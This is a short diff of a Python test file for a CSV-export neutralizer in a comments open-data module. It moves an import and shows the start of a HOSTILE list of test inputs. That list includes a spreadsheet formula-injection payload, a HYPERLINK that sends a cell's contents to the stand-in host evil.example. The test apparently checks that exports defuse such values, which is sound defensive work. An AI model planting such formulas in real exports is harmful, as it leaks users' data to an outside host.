@@ -13,7 +13,8 @@ import pytest
 
 from app.extensions import db
 from comments.opendata.exports import neutralize, neutralize_csv
-from tests.comments.responses.conftest import HIDDEN_TEXT, answer, publish
+from tests.comments.responses.conftest import answer, publish
+from tests.world import HIDDEN_TEXT
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Klikkaa")',
